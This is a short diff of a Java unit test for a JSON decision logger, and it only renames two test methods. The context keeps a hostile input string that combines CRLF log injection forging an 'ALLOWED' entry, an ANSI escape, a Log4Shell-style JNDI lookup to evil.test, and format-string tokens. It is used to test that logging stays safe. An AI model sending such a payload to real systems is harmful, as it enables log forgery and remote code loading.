@@ -79,7 +79,7 @@ class JsonDecisionLogTest {
   }
 
   @Test
-  void leavesOutWhatIsNotKnown() {
+  void omitsUnknownFields() {
     new JsonDecisionLog()
         .record(CALL, new Decision.Refused(AuthError.BEARER_INVALID, "bad signature"));
 
@@ -91,7 +91,7 @@ class JsonDecisionLogTest {
   }
 
   @Test
-  void whatACallerWroteStaysOneHarmlessLine() {
+  void hostileTextStaysOneHarmlessLine() {
     String evil = "x\r\n{\"outcome\":\"ALLOWED\"}\u001b[2J${jndi:ldap://evil.test/a}%s{0}";
     Call call = new Call(evil, evil, evil, ClientAddress.UNKNOWN);
 
